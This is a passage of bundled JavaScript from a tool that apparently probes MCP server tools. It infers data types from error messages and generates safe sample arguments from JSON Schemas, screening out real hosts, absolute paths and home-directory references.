        if (typeof key === 'string' && !fields.some((field) => field.path.at(-1) === key))
            addField([key], undefined);
    }
    // V8 and others: a property read from undefined or null
    for (const match of text.matchAll(/Cannot read propert(?:y|ies) of (?:undefined|null) \(reading '([^']{1,64})'\)|Cannot read property '([^']{1,64})' of (?:undefined|null)|Cannot destructure property '([^']{1,64})'|'NoneType' object has no attribute '([^']{1,64})'|KeyError: '([^']{1,64})'/g)) {
        const key = match.slice(1).find((group) => group !== undefined) ?? '';
        if (KEY.test(key) && reads.size < reply_lesson/* MAX_LESSON_READS */.u0)
            reads.add(key);
    }
    // a method of a list or a string called on something else: `data.items.map is not a function`
    for (const match of text.matchAll(/\b([\w$]+(?:\??\.[\w$]+){0,8})\??\.([\w$]+) is not a function/g)) {
        const owner = (match[1] ?? '').split(/\??\./);
        const method = match[2] ?? '';
        const type = ARRAY_METHODS.test(method) ? 'array' : STRING_METHODS.test(method) ? 'string' : undefined;
        if (!type)
            continue;
        if (owner.length === 1) {
            if (type === 'array')
                root = 'array';
            continue;
        }
        addField([owner.at(-1)], type);
        // the same name is that type wherever the API's answers carry it (a GraphQL field deep in any query)
        if (KEY.test(owner.at(-1)))
            names[owner.at(-1)] = type;
    }
    for (const match of text.matchAll(/\b([\w$]+(?:\.[\w$]+){0,8}) is not iterable/g)) {
        const owner = (match[1] ?? '').split('.');
        if (owner[0] === 'undefined' || owner[0] === 'null')
            continue;
        if (owner.length === 1)
            root = 'array';
        else {
            addField([owner.at(-1)], 'array');
            if (KEY.test(owner.at(-1)))
                names[owner.at(-1)] = 'array';
        }
    }
    if (/list indices must be integers or slices, not str/.test(text))
        root = 'object';
    if (fields.length === 0 && reads.size === 0 && root === undefined)
        return null;
    return { ...(root ? { root } : {}), fields, reads: [...reads], ...(Object.keys(names).length > 0 ? { names } : {}) };
}
/** The server-wide names with another error's added; null when it added none. */
function mergeNames(known, part) {
    const merged = { ...known };
    for (const [name, type] of Object.entries(part.names ?? {}))
        if (merged[name] !== type && (name in merged || Object.keys(merged).length < reply_lesson/* MAX_LESSON_NAMES */.LH))
            merged[name] = type;
    return JSON.stringify(merged) === JSON.stringify(known) ? null : merged;
}
/** The tool's lesson with another error's added; null when the error taught nothing new. */
function mergeLesson(tool, lesson, part) {
    const fields = [...(lesson?.fields ?? [])];
    for (const field of part.fields) {
        const key = field.path.join('.');
        const index = fields.findIndex((entry) => entry.path.join('.') === key);
        if (index < 0)
            fields.push(field);
        else if (field.expected && fields[index]?.expected !== field.expected)
            fields[index] = field;
    }
    const reads = [...new Set([...(lesson?.reads ?? []), ...part.reads])].slice(0, reply_lesson/* MAX_LESSON_READS */.u0);
    const root = part.root ?? lesson?.root;
    const merged = { tool, ...(root ? { root } : {}), fields: fields.slice(0, reply_lesson/* MAX_LESSON_FIELDS */.gi), reads };
    return JSON.stringify(merged) === JSON.stringify(lesson ?? null) ? null : merged;
}

;// CONCATENATED MODULE: ./src/probe/steered-calls.ts
const MAX_STEERED_PER_TOOL = 4;
/** The (parameter, value) pairs worth a call: the parameter is in the tool's input schema, takes a string, and the value is not one of its declared enum values already tried. */
function steeringCandidates(tool, steering) {
    const schema = tool.inputSchema;
    const properties = schema?.properties ?? {};
    const out = [];
    for (const { param, values } of steering) {
        const property = Object.hasOwn(properties, param) ? properties[param] : undefined;
        if (!property || (property.type !== undefined && property.type !== 'string' && !(Array.isArray(property.type) && property.type.includes('string'))))
            continue;
        for (const value of values)
            if (out.length < MAX_STEERED_PER_TOOL)
                out.push({ param, value });
    }
    return out;
}
/** Makes each tool's steered calls through `call` (ToolExerciser's, which knows each tool's lessons), in listing order. */
async function steerCalls(tools, items, call) {
    const steered = [];
    for (const tool of tools) {
        const item = items.find((candidate) => candidate.kind === 'tool' && candidate.name === tool.name);
        if (!item)
            continue;
        for (const { param, value } of steeringCandidates(tool, item.steering)) {
            const id = await call(tool, param, value);
            if (id !== undefined)
                steered.push({ call: id, tool: tool.name, param, value });
        }
    }
    return steered;
}

;// CONCATENATED MODULE: ./src/probe/synthesize/schema-access.ts
// Reading a server's JSON Schema safely. Every read goes through own(): a server's schema may use keys
// like "__proto__" or "constructor", which must mean nothing more than any other key.
const JSON_TYPES = ['object', 'array', 'string', 'integer', 'number', 'boolean', 'null'];
function typeList(value) {
    const list = typeof value === 'string' ? [value] : Array.isArray(value) ? value : [];
    return list.filter((t) => JSON_TYPES.includes(t));
}
function isRecord(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
function own(record, key) {
    return Object.hasOwn(record, key) ? record[key] : undefined;
}
function setOwn(record, key, value) {
    Object.defineProperty(record, key, { value, enumerable: true, writable: true, configurable: true });
}
function without(record, key) {
    const out = {};
    for (const [k, v] of Object.entries(record))
        if (k !== key)
            setOwn(out, k, v);
    return out;
}
function anyList(value) {
    return Array.isArray(value) ? value : [];
}
function stringList(value) {
    return Array.isArray(value) ? value.filter((item) => typeof item === 'string') : [];
}
function numberField(schema, key, allowNegative = false) {
    const value = own(schema, key);
    if (typeof value !== 'number' || !Number.isFinite(value))
        return undefined;
    return allowNegative || value >= 0 ? value : undefined;
}
function safeDecode(text) {
    try {
        return decodeURIComponent(text);
    }
    catch {
        return text;
    }
}

;// CONCATENATED MODULE: ./src/probe/synthesize/choose-type.ts
// Which JSON type to generate for a schema: the declared type(s), or one inferred from the keywords;
// a key-name hint and the variant choose among several.


function chooseType(schema, hint, variant) {
    let types = typeList(own(schema, 'type'));
    if (types.length === 0)
        types = inferTypes(schema);
    if (types.length === 0)
        return undefined;
    if (own(schema, 'nullable') === true && !types.includes('null'))
        types = [...types, 'null'];
    const nonNull = types.filter((t) => t !== 'null');
    if (nonNull.length === 0)
        return 'null';
    const kind = (0,key_hints/* hintKind */.U)(hint);
    if (kind !== undefined && NUMBER_HINTS.has(kind)) {
        const numeric = nonNull.find((t) => t === 'integer' || t === 'number');
        if (numeric)
            return numeric;
    }
    if (kind !== undefined && nonNull.includes('string'))
        return 'string';
    return nonNull[variant % nonNull.length];
}
function inferTypes(schema) {
    const has = (...keys) => keys.some((key) => Object.hasOwn(schema, key));
    if (has('properties', 'required', 'additionalProperties', 'minProperties', 'patternProperties'))
        return ['object'];
    if (has('items', 'prefixItems', 'minItems', 'maxItems', 'uniqueItems'))
        return ['array'];
    if (has('minLength', 'maxLength', 'pattern', 'format'))
        return ['string'];
    if (has('minimum', 'maximum', 'exclusiveMinimum', 'exclusiveMaximum', 'multipleOf'))
        return ['number'];
    return [];
}
function matchesType(value, types) {
    if (types.length === 0)
        return true;
    return types.some((type) => {
        switch (type) {
            case 'null':
                return value === null;
            case 'boolean':
                return typeof value === 'boolean';
            case 'integer':
                return Number.isInteger(value);
            case 'number':
                return typeof value === 'number' && Number.isFinite(value);
            case 'string':
                return typeof value === 'string';
            case 'array':
                return Array.isArray(value);
            case 'object':
                return isRecord(value);
        }
        return false;
    });
}
/** what is generated once a work cap is reached */
function minimalValue(type) {
    switch (type) {
        case 'object':
            return {};
        case 'array':
            return [];
        case 'integer':
        case 'number':
            return 0;
        case 'boolean':
            return false;
        case 'null':
            return null;
        default:
            return '';
    }
}

;// CONCATENATED MODULE: ./src/probe/synthesize/context.ts
// What one synthesis carries through the schema walk: the root that $ref points into, the work done so
// far, and the flags that make the result a best effort.
/** the longest string generated, from a length bound or a pattern */
const MAX_STRING_LENGTH = 4096;

;// CONCATENATED MODULE: ./src/probe/synthesize/normalize-schema.ts
// Schema normalization: $ref, allOf, anyOf/oneOf resolved into one plain schema. The walk is capped
// ($ref chains, allOf length) and marks the context when a cap shaped the result.

const MAX_NORMALIZE_STEPS = 16;
const MAX_ALL_OF_PARTS = 64;
function normalize(context, rawSchema, variant) {
    let schema = rawSchema;
    for (let step = 0; step < MAX_NORMALIZE_STEPS; step += 1) {
        if (typeof schema === 'boolean')
            return schema;
        if (!isRecord(schema))
            return true;
        const ref = own(schema, '$ref');
        if (typeof ref === 'string') {
            const target = resolveRef(context.root, ref);
            schema = merge(target === undefined ? true : target, without(schema, '$ref'));
            continue;
        }
        const allOf = own(schema, 'allOf');
        if (Array.isArray(allOf)) {
            // merging copies the accumulated schema each time: a long allOf would be quadratic
            if (allOf.length > MAX_ALL_OF_PARTS)
                context.capped = true;
            schema = allOf.slice(0, MAX_ALL_OF_PARTS).reduce((merged, part) => merge(merged, part), without(schema, 'allOf'));
            continue;
        }
        const branchKey = Array.isArray(own(schema, 'anyOf')) ? 'anyOf' : Array.isArray(own(schema, 'oneOf')) ? 'oneOf' : null;
        if (branchKey !== null) {
            const branches = own(schema, branchKey).filter((branch) => branch !== false);
            // a null branch is valid but tells the tool nothing; other branches first
            const ordered = [...branches.filter((b) => !isNullOnly(b)), ...branches.filter(isNullOnly)];
            const chosen = ordered.length === 0 ? false : ordered[variant % ordered.length];
            schema = merge(without(schema, branchKey), chosen);
            continue;
        }
        return schema;
    }
    context.capped = true;
    return true;
}
function resolveRef(root, ref) {
    if (ref === '#')
        return root;
    if (!ref.startsWith('#/'))
        return undefined;
    let node = root;
    for (const rawPart of ref.slice(2).split('/')) {
        const part = safeDecode(rawPart).replace(/~1/g, '/').replace(/~0/g, '~');
        if (Array.isArray(node) && /^\d+$/.test(part))
            node = node[Number(part)];
        else if (isRecord(node))
            node = own(node, part);
        else
            return undefined;
    }
    return node;
}
function merge(a, b) {
    if (a === false || b === false)
        return false;
    if (!isRecord(a))
        return isRecord(b) ? b : true;
    if (!isRecord(b))
        return a;
    const out = { ...a };
    for (const [key, value] of Object.entries(b)) {
        if (!Object.hasOwn(out, key)) {
            setOwn(out, key, value);
            continue;
        }
        const existing = out[key];
        switch (key) {
            case 'properties':
            case 'patternProperties':
            case '$defs':
            case 'definitions': {
                const map = isRecord(existing) ? { ...existing } : {};
                for (const [name, sub] of Object.entries(isRecord(value) ? value : {})) {
                    setOwn(map, name, Object.hasOwn(map, name) ? { allOf: [map[name], sub] } : sub);
                }
                setOwn(out, key, map);
                break;
            }
            case 'required':
                setOwn(out, key, [...new Set([...stringList(existing), ...stringList(value)])]);
                break;
            case 'type': {
                const both = typeList(existing).filter((t) => typeList(value).includes(t));
                setOwn(out, key, both.length > 0 ? both : value);
                break;
            }
            case 'minimum':
            case 'minLength':
            case 'minItems':
            case 'minProperties':
                setOwn(out, key, typeof existing === 'number' && typeof value === 'number' ? Math.max(existing, value) : value);
                break;
            case 'maximum':
            case 'maxLength':
            case 'maxItems':
            case 'maxProperties':
                setOwn(out, key, typeof existing === 'number' && typeof value === 'number' ? Math.min(existing, value) : value);
                break;
            case 'enum': {
                const allowed = new Set(Array.isArray(value) ? value.map((v) => JSON.stringify(v)) : []);
                const both = Array.isArray(existing) ? existing.filter((v) => allowed.has(JSON.stringify(v))) : [];
                setOwn(out, key, both.length > 0 ? both : value);
                break;
            }
            case 'items':
                setOwn(out, key, isRecord(existing) && isRecord(value) ? { allOf: [existing, value] } : value);
                break;
            case 'allOf':
                setOwn(out, key, [...(Array.isArray(existing) ? existing : []), ...(Array.isArray(value) ? value : [])]);
                break;
            case 'anyOf':
            case 'oneOf':
                // two alternatives lists cannot be merged into one; the second is kept for a later round
                setOwn(out, 'allOf', [...anyList(own(out, 'allOf')), { [key]: value }]);
                break;
            default:
                setOwn(out, key, value);
        }
    }
    return out;
}
function isNullOnly(schema) {
    if (!isRecord(schema))
        return false;
    const type = own(schema, 'type');
    return type === 'null' || (Array.isArray(type) && type.length === 1 && type[0] === 'null');
}

// EXTERNAL MODULE: ./src/model/ip-version.ts
var ip_version = __webpack_require__(13945);
;// CONCATENATED MODULE: ./src/probe/synthesize/safe-values.ts
// Screening values the schema proposes (const, enum, default, examples) and strings a pattern yields:
// nothing may point the server at the canary home, outside the working directory or at a real host.



function isSafeValue(value, hint, budget = { nodes: 0 }) {
    budget.nodes += 1;
    if (budget.nodes > 500)
        return false;
    if (typeof value === 'string')
        return isSafeString(value, hint);
    if (Array.isArray(value))
        return value.every((item) => isSafeValue(item, hint, budget));
    if (isRecord(value))
        return Object.entries(value).every(([key, item]) => isSafeValue(item, key, budget));
    return true;
}
function isSafeString(value, hint) {
    const text = value.trim();
    if (text.startsWith('~'))
        return false;
    if (/^localhost\b/i.test(text))
        return false;
    if (/\$\{?HOME\b|%USERPROFILE%|%HOMEPATH%|%APPDATA%/i.test(text))
        return false;
    if (text.startsWith('/') || text.startsWith('\\') || /^[A-Za-z]:[\\/]/.test(text))
        return false;
    if (/(^|[\\/])\.\.([\\/]|$)/.test(text))
        return false;
    if (/^[A-Za-z][A-Za-z0-9+.-]*:/.test(text) && !/^[A-Za-z]:[^\\/]/.test(text)) {
        const scheme = text.slice(0, text.indexOf(':')).toLowerCase();
        if (scheme === 'file')
            return false;
        if (scheme === 'mailto')
            return isAllowedHost(text.slice(text.lastIndexOf('@') + 1));
        let url;
        try {
            url = new URL(text);
        }
        catch {
            return !text.includes('//');
        }
        if (url.hostname !== '' && !isAllowedHost(url.hostname))
            return false;
    }
    if ((0,ip_version/* ipVersion */.U)(text) !== 0)
        return isAllowedHost(text);
    const email = /^[^@\s]+@([^@\s]+)$/.exec(text);
    if (email)
        return isAllowedHost(email[1]);
    const kind = (0,key_hints/* hintKind */.U)(hint);
    if ((kind === 'host' || kind === 'url') && /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+\.?(:\d+)?$/.test(text)) {
        return isAllowedHost(text.replace(/:\d+$/, ''));
    }
    return true;
}
function isAllowedHost(rawHost) {
    const host = rawHost
        .toLowerCase()
        .replace(/^\[|\]$/g, '')
        .replace(/\.$/, '');
    if (/^(.+\.)?example\.(com|org|net)$/.test(host))
        return true;
    if ((0,ip_version/* ipVersion */.U)(host) === 4)
        return /^(192\.0\.2|198\.51\.100|203\.0\.113)\.\d+$/.test(host);
    if ((0,ip_version/* ipVersion */.U)(host) === 6)
        return /^2001:0?db8:/.test(host);
    return false;
}

;// CONCATENATED MODULE: ./src/probe/synthesize/proposed-values.ts
// Values the schema proposes (const, enum, default, examples): used when they are safe and look valid,
// since the call most likely to succeed is one the schema's author wrote down.




function proposedValue(schema, type, hint, variant) {
    if (Object.hasOwn(schema, 'const')) {
        const value = own(schema, 'const');
        if (isSafeValue(value, hint))
            return { found: true, value };
    }
    const enumValues = own(schema, 'enum');
    if (Array.isArray(enumValues) && enumValues.length > 0) {
        const usable = enumValues.filter((value) => isSafeValue(value, hint) && matchesType(value, typeList(own(schema, 'type'))));
        if (usable.length > 0)
            return { found: true, value: usable[variant % usable.length] };
    }
    const candidates = [];
    if (Object.hasOwn(schema, 'default'))
        candidates.push(own(schema, 'default'));
    const examples = own(schema, 'examples');
    if (Array.isArray(examples))
        candidates.push(...examples.slice(0, 20));
    else if (Object.hasOwn(schema, 'example'))
        candidates.push(own(schema, 'example'));
    const usable = candidates.filter((value) => isSafeValue(value, hint) && looksValid(value, schema, type));
    if (usable.length > 0)
        return { found: true, value: usable[variant % usable.length] };
    return { found: false };
}
/**
 * `{anyOf: [{type: string}, {type: null}], default: null}` (how pydantic writes `str | None = None`):
 * the default belongs to the whole union, so it is checked against every branch before one is chosen.
 */
function defaultOfAlternatives(context, rawSchema, hint) {
    if (!isRecord(rawSchema) || !Object.hasOwn(rawSchema, 'default'))
        return { found: false };
    const branches = [own(rawSchema, 'anyOf'), own(rawSchema, 'oneOf')].find(Array.isArray);
    if (branches === undefined)
        return { found: false };
    const value = own(rawSchema, 'default');
    if (!isSafeValue(value, hint))
        return { found: false };
    const fitsBranch = branches.some((branch) => {
        const schema = normalize(context, merge(without(without(rawSchema, 'anyOf'), 'oneOf'), branch), 0);
        return isRecord(schema) && looksValid(value, schema, chooseType(schema, undefined, 0));
    });
    return fitsBranch ? { found: true, value } : { found: false };
}
function hasProposedValue(context, rawSchema) {
    const schema = normalize(context, rawSchema, 0);
    return isRecord(schema) && ['const', 'default', 'examples', 'example'].some((key) => Object.hasOwn(schema, key));
}
/** A shallow check of a value the schema proposes (default, example): authors get these wrong. */
function looksValid(value, schema, type) {
    const types = typeList(own(schema, 'type'));
    if (!matchesType(value, types.length > 0 ? types : type === undefined ? [] : [type]))
        return false;
    const enumValues = own(schema, 'enum');
    if (Array.isArray(enumValues) && !enumValues.some((e) => JSON.stringify(e) === JSON.stringify(value)))
        return false;
    if (typeof value === 'string') {
        const length = [...value].length;
        if (length < (numberField(schema, 'minLength') ?? 0) || length > (numberField(schema, 'maxLength') ?? Infinity))
            return false;
    }
    if (typeof value === 'number' && !numberFits(value, schema, false))
        return false;
    if (Array.isArray(value)) {
        if (value.length < (numberField(schema, 'minItems') ?? 0) || value.length > (numberField(schema, 'maxItems') ?? Infinity))
            return false;
    }
    if (isRecord(value) && !stringList(own(schema, 'required')).every((key) => Object.hasOwn(value, key)))
        return false;
    return true;
}
function numberBound(schema, side) {
    const inclusive = numberField(schema, side === 'lower' ? 'minimum' : 'maximum', true);
    const exclusive = own(schema, side === 'lower' ? 'exclusiveMinimum' : 'exclusiveMaximum');
    if (typeof exclusive === 'number' && Number.isFinite(exclusive)) {
        const tighter = inclusive === undefined || (side === 'lower' ? exclusive >= inclusive : exclusive <= inclusive);
        if (tighter)
            return { value: exclusive, strict: true };
    }
    if (inclusive === undefined)
        return undefined;
    // draft 4: exclusiveMinimum/exclusiveMaximum are booleans modifying minimum/maximum
    return { value: inclusive, strict: exclusive === true };
}
function numberFits(value, schema, integer) {
    if (!Number.isFinite(value) || (integer && !Number.isInteger(value)))
        return false;
    const lower = numberBound(schema, 'lower');
    const upper = numberBound(schema, 'upper');
    if (lower && (lower.strict ? value <= lower.value : value < lower.value))
        return false;
    if (upper && (upper.strict ? value >= upper.value : value > upper.value))
        return false;
    const multipleOf = numberField(schema, 'multipleOf');
    if (multipleOf !== undefined && multipleOf > 0 && !Number.isInteger(value / multipleOf))
        return false;
    return true;
}

;// CONCATENATED MODULE: ./src/probe/synthesize/regex-subset.ts
// Patterns: a generator for a safe subset of ECMAScript regular expressions. It never runs the
// pattern (a server's `pattern` could backtrack for hours); a string is built from the parsed pattern so
// that it matches by construction, and anything outside the subset yields undefined.

const MAX_PATTERN_LENGTH = 512;
class UnsupportedPattern extends Error {
}
// characters tried, in order, when a class or '.' needs one
const PREFERRED_CHARS = 'abcdefghijklmnopqrstuvwxyz1234567890ABCDEFGHIJKLMNOPQRSTUVWXYZ-_. ';
function generateFromPattern(pattern, minLength, maxLength, variant) {
    if (pattern.length > MAX_PATTERN_LENGTH)
        return undefined;
    let tree;
    try {
        tree = new PatternParser(pattern).parse();
    }
    catch {
        return undefined;
    }
    let shortest;
    for (const repeat of [1, 0, 2, 4, 8, 16, 32, 64, 128, 256]) {
        const text = build(tree, repeat, variant);
        if (text === undefined || text.length > MAX_STRING_LENGTH)
            continue;
        if (text.length >= minLength && text.length <= maxLength)
            return text;
        if (shortest === undefined || text.length < shortest.length)
            shortest = text;
    }
    return shortest;
}
function build(node, repeat, variant) {
    switch (node.kind) {
        case 'char':
            return node.char;
        case 'sequence': {
            let out = '';
            for (const item of node.items) {
                const part = build(item, repeat, variant);
                if (part === undefined)
                    return undefined;
                out += part;
                if (out.length > MAX_STRING_LENGTH)
                    return undefined;
            }
            return out;
        }
        case 'alternation':
            return build(node.options[variant % node.options.length], repeat, variant);
        case 'repeat': {
            const count = Math.min(node.max, Math.max(node.min, repeat));
            if (count > MAX_STRING_LENGTH)
                return undefined;
            let out = '';
            for (let i = 0; i < count; i += 1) {
                const part = build(node.node, repeat, variant);
                if (part === undefined)
                    return undefined;
                out += part;
                if (out.length > MAX_STRING_LENGTH)
                    return undefined;
            }
            return out;
        }
    }
}
class PatternParser {
    source;
    index = 0;
    depth = 0;
    constructor(source) {
        this.source = source;
    }
    parse() {
        const node = this.alternation();
        if (this.index < this.source.length)
            throw new UnsupportedPattern('unbalanced )');
        return node;
    }
    peek(offset = 0) {
        return this.source[this.index + offset];
    }
    alternation() {
        this.depth += 1;
        if (this.depth > 20)
            throw new UnsupportedPattern('too deep');
        const options = [this.sequence()];
        while (this.peek() === '|') {
            this.index += 1;
            options.push(this.sequence());
        }
        this.depth -= 1;
        return options.length === 1 ? options[0] : { kind: 'alternation', options };
    }
    sequence() {
        const items = [];
        for (let char = this.peek(); char !== undefined && char !== '|' && char !== ')'; char = this.peek()) {
            const atom = this.atom();
            if (atom !== null)
                items.push(this.quantified(atom));
        }
        return { kind: 'sequence', items };
    }
    /** null for an anchor, which matches the empty string where the generator puts it */
    atom() {
        const char = this.source[this.index++];
        switch (char) {
            case '^':
            case '$':
                return null;
            case '.':
                return { kind: 'char', char: 'a' };
            case '(': {
                if (this.peek() === '?') {
                    if (this.peek(1) === ':')
                        this.index += 2;
                    else if (this.peek(1) === '<' && this.peek(2) !== '=' && this.peek(2) !== '!') {
                        const close = this.source.indexOf('>', this.index);
                        if (close < 0)
                            throw new UnsupportedPattern('bad group name');
                        this.index = close + 1;
                    }
                    else
                        throw new UnsupportedPattern('lookaround');
                }
                const inner = this.alternation();
                if (this.source[this.index++] !== ')')
                    throw new UnsupportedPattern('unclosed group');
                return inner;
            }
            case '[':
                return { kind: 'char', char: this.characterClass() };
            case '\\':
                return { kind: 'char', char: pickChar(this.escape(false), false) };
            case '*':
            case '+':
            case '?':
            case '{':
                if (char === '{' && !/^\d/.test(this.peek() ?? ''))
                    return { kind: 'char', char };
                throw new UnsupportedPattern('nothing to repeat');
            default:
                return { kind: 'char', char };
        }
    }
    quantified(atom) {
        let min;
        let max;
        const char = this.peek();
        if (char === '*')
            [min, max] = [0, Infinity];
        else if (char === '+')
            [min, max] = [1, Infinity];
        else if (char === '?')
            [min, max] = [0, 1];
        else if (char === '{') {
            const match = /^\{(\d+)(,(\d*))?\}/.exec(this.source.slice(this.index));
            if (!match)
                return atom;
            min = Number(match[1]);
            max = match[2] === undefined ? min : match[3] === '' || match[3] === undefined ? Infinity : Number(match[3]);
            this.index += match[0].length - 1;
        }
        else
            return atom;
        this.index += 1;
        if (this.peek() === '?')
            this.index += 1;
        if (min > max)
            throw new UnsupportedPattern('bad range');
        return { kind: 'repeat', node: atom, min, max };
    }
    /** A character the class matches (the cursor is just after '['). */
    characterClass() {
        const negated = this.peek() === '^';
        if (negated)
            this.index += 1;
        const ranges = [];
        for (;;) {
            const char = this.source[this.index++];
            if (char === undefined)
                throw new UnsupportedPattern('unclosed class');
            if (char === ']')
                break;
            let low;
            if (char === '\\')
                low = this.escape(true);
            else
                low = [[codePoint(char), codePoint(char)]];
            if (this.peek() === '-' && this.peek(1) !== ']' && this.peek(1) !== undefined && low.length === 1 && low[0]?.[0] === low[0]?.[1]) {
                this.index += 1;
                const endChar = this.source[this.index++];
                const end = endChar === '\\' ? this.escape(true) : [[codePoint(endChar), codePoint(endChar)]];
                if (end.length !== 1 || end[0]?.[0] !== end[0]?.[1])
                    throw new UnsupportedPattern('class range to a class');
                const from = low[0][0];
                const to = end[0][0];
                if (to < from)
                    throw new UnsupportedPattern('reversed range');
                ranges.push([from, to]);
            }
            else
                ranges.push(...low);
        }
        return pickChar(ranges, negated);
    }
    /** The ranges an escape stands for (the cursor is just after '\'). */
    escape(inClass) {
        const char = this.source[this.index++];
        if (char === undefined)
            throw new UnsupportedPattern('trailing backslash');
        const single = (c) => [[codePoint(c), codePoint(c)]];
        switch (char) {
            case 'd':
                return [[48, 57]];
            case 'w':
                return [
                    [97, 122],
                    [65, 90],
                    [48, 57],
                    [95, 95]
                ];
            case 's':
                return [
                    [32, 32],
                    [9, 13]
                ];
            case 'n':
                return single('\n');
            case 't':
                return single('\t');
            case 'r':
                return single('\r');
            case 'f':
                return single('\f');
            case 'v':
                return single('\v');
            case '0':
                return single('\0');
            case 'x':
            case 'u': {
                const match = char === 'x' ? /^[0-9a-fA-F]{2}/.exec(this.source.slice(this.index)) : /^[0-9a-fA-F]{4}/.exec(this.source.slice(this.index));
                if (!match)
                    throw new UnsupportedPattern('bad hex escape');
                this.index += match[0].length;
                const value = parseInt(match[0], 16);
                return [[value, value]];
            }
            case 'b':
                if (inClass)
                    return single('\b');
                throw new UnsupportedPattern('word boundary');
            default:
                // \D \W \S \B \p{…}, back-references and control escapes are outside the subset
                if (/[A-Za-z1-9]/.test(char))
                    throw new UnsupportedPattern(`escape \\${char}`);
                return single(char);
        }
    }
}
function codePoint(char) {
    return char.codePointAt(0) ?? 0;
}
function pickChar(ranges, negated) {
    const inRanges = (code) => ranges.some(([low, high]) => code >= low && code <= high);
    for (const char of PREFERRED_CHARS)
        if (inRanges(codePoint(char)) !== negated)
            return char;
    if (!negated && ranges[0])
        return String.fromCodePoint(ranges[0][0]);
    throw new UnsupportedPattern('empty class');
}

;// CONCATENATED MODULE: ./src/probe/synthesize/wait-values.ts
// Arguments that only make a call wait: a number called `duration`, `delayMs` or `sleep_seconds` sets how
// long the tool sleeps, and its default can be long (server-everything's trigger-long-running-operation
// sleeps `duration: 10` seconds). The length of a wait changes how long the call takes, not what the tool
// does, so such an argument gets the smallest useful value the schema allows, in every variant, and is
// filled even where optional (left out, the server's own default applies, however long).
//
// Only names that clearly mean "how long to wait": not a timeout (a tiny one makes the call fail, and
// the trace then shows the failure instead of the work), not a count, a step or a limit, and not a cap on
// a wait (`maxDelay`).





const WAIT_WORDS = new Set(['duration', 'delay', 'sleep', 'wait', 'pause', 'interval']);
const SECOND_UNITS = new Set(['ms', 'millis', 'millisecond', 'milliseconds', 's', 'sec', 'secs', 'second', 'seconds']);
const MINUTE_UNITS = new Set(['min', 'mins', 'minute', 'minutes']);
// a name with one of these bounds a wait or ends it rather than asking for one
const NOT_A_WAIT = new Set(['timeout', 'max', 'maximum', 'limit', 'deadline', 'ttl']);
/**
 * The words of a wait argument's name without its unit, and whether the unit is minutes; undefined for any
 * other name. `delayMs`, `sleep_seconds`, `delay_in_ms`, `pollInterval`, `waitTime` are waits; `timeoutMs`,
 * `maxDelay`, `seconds` and `steps` are not.
 */
function waitName(name) {
    if (name === undefined)
        return undefined;
    const words = (0,key_hints/* splitWords */.yM)(name);
    const unit = words.length > 1 ? words[words.length - 1] : undefined;
    const minutes = unit !== undefined && MINUTE_UNITS.has(unit);
    const core = unit !== undefined && (minutes || SECOND_UNITS.has(unit)) ? words.slice(0, -1) : words;
    if (core.length > 1 && core[core.length - 1] === 'in')
        core.pop();
    if (core.some((word) => NOT_A_WAIT.has(word)))
        return undefined;
    const last = core[core.length - 1];
    // `waitTime`, `sleepTime`: "time" after a wait word
    const waits = last !== undefined && (WAIT_WORDS.has(last) || (last === 'time' && core.length > 1 && WAIT_WORDS.has(core[core.length - 2] ?? '')));
    return waits ? { minutes } : undefined;
}
/** Whether a property's name says it sets how long the call waits (see waitName). */
function isWaitName(name) {
    return waitName(name) !== undefined;
}
/**
 * The value for a numeric wait argument, or undefined when `name` is not a wait's or the schema is not a
 * number's (a string `duration` like "PT5M" is left to the usual path, and a `const` is kept).
 *
 * 1 (one second, one millisecond), or the schema's lower bound when that is higher (the next value above
 * an exclusive one). Not 0 even where allowed: a server may refuse it without saying so in its schema, or
 * skip the waiting code (`if (delay) await sleep(delay)`), and the trace should show the path a user's
 * call takes. In minutes a number gets 0.02 (about a second). An enum gives its smallest positive member.
 */
function waitValue(context, rawSchema, name) {
    const wait = waitName(name);
    if (wait === undefined)
        return undefined;
    // variant 0's branch of an anyOf (null branches last), whatever the variant: every call waits as little
    const schema = normalize(context, rawSchema, 0);
    if (!isRecord(schema) || Object.hasOwn(schema, 'const'))
        return undefined;
    const type = chooseType(schema, name, 0);
    if (type !== 'number' && type !== 'integer')
        return undefined;
    const integer = type === 'integer';
    const members = own(schema, 'enum');
    if (Array.isArray(members)) {
        const numbers = members.filter((m) => typeof m === 'number' && Number.isFinite(m) && m >= 0 && (!integer || Number.isInteger(m)));
        const positive = numbers.filter((m) => m > 0);
        const pool = positive.length > 0 ? positive : numbers;
        return pool.length > 0 ? Math.min(...pool) : undefined;
    }
    const target = wait.minutes && !integer ? 0.02 : 1;
    const lower = numberBound(schema, 'lower');
    let value;
    if (lower === undefined || lower.value < target)
        value = target;
    else if (integer)
        value = lower.strict ? Math.floor(lower.value) + 1 : Math.ceil(lower.value);
    else
        value = lower.strict ? lower.value + 0.1 : lower.value;
    const multipleOf = numberField(schema, 'multipleOf');
    if (multipleOf !== undefined && multipleOf > 0) {
        value = Math.ceil(value / multipleOf) * multipleOf;
        if (lower?.strict === true && value <= lower.value)
            value += multipleOf;
    }
    // an upper bound below the value (a wait of at most half a second): the usual path picks within it
    return numberFits(value, schema, integer) ? value : undefined;
}

;// CONCATENATED MODULE: ./src/probe/synthesize/generate.ts
// The schema walk that builds a value: objects, arrays, strings, numbers and booleans, from the
// normalized schema, the key-name hints and the variant. Capped in depth and nodes.









const generate_MAX_DEPTH = 6;
const MAX_NODES = 2000;
const MAX_ARRAY_ITEMS = 20;
function generate(context, rawSchema, hint, depth, variant) {
    context.nodes += 1;
    const branchDefault = defaultOfAlternatives(context, rawSchema, hint);
    if (branchDefault.found)
        return branchDefault.value;
    const schema = normalize(context, rawSchema, variant);
    if (schema === false)
        return undefined;
    if (schema === true)
        return hintString(hint, variant) ?? PLAIN_TEXT;
    const type = chooseType(schema, hint, variant);
    if (depth > generate_MAX_DEPTH || context.nodes > MAX_NODES) {
        context.capped = true;
        return minimalValue(type);
    }
    const proposed = proposedValue(schema, type, hint, variant);
    if (proposed.found)
        return proposed.value;
    switch (type) {
        case 'object':
            return generateObject(context, schema, depth, variant);
        case 'array':
            return generateArray(context, schema, hint, depth, variant);
        case 'string':
            return generateString(context, schema, hint, variant);
        case 'integer':
        case 'number':
            return generateNumber(schema, type === 'integer', hint, variant);
        case 'boolean':
            return generateBoolean(hint, variant);
        case 'null':
            return null;
        default:
            return hintString(hint, variant) ?? PLAIN_TEXT;
    }
}
function generateObject(context, schema, depth, variant) {
